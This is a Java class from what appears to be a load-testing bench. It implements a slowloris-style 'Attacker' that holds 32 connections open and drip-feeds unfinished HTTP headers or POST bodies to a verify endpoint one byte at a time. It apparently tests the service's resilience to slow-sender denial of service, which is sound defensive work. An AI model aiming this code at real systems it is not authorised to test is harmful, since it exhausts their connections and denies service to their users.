package com.bpmcentr.loadtests.bench.scenario;

import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import org.jspecify.annotations.Nullable;

/** Holds connections on which a head, or a body, comes a byte at a time and never ends. */
final class SlowSenders implements Attacker {
  private static final int CONNECTIONS = 32;
  private static final byte[] HEAD =
      "GET /v1/verify?connector=rozetka HTTP/1.1\r\nHost: e\r\nX: "
          .getBytes(StandardCharsets.US_ASCII);
  private static final byte[] BODY =
      ("POST /v1/verify HTTP/1.1\r\nHost: e\r\nContent-Type: application/json\r\n"
              + "Content-Length: 4000\r\n\r\n{")
          .getBytes(StandardCharsets.US_ASCII);

  private final Target target;
  private final InetAddress from;
  private final @Nullable Socket[] sockets = new Socket[CONNECTIONS];
  private int next;

  SlowSenders(Target target, InetAddress from) {
    this.target = target;
    this.from = from;
  }

  @Override
  public String act() throws IOException {
    next = (next + 1) % CONNECTIONS;
    Socket socket = sockets[next];
    if (socket == null) {
      socket = target.connect(from);
      sockets[next] = socket;
      socket.getOutputStream().write(next % 2 == 0 ? HEAD : BODY);
      return "connected";
    }
    if (socket.getInputStream().available() > 0) {
      giveUp();
      return "answered";
    }
    socket.getOutputStream().write('x');
    return "byte";
  }

  @Override
  public void giveUp() throws IOException {
    Socket socket = sockets[next];
    if (socket != null) {
      socket.close();
      sockets[next] = null;
    }
  }
}
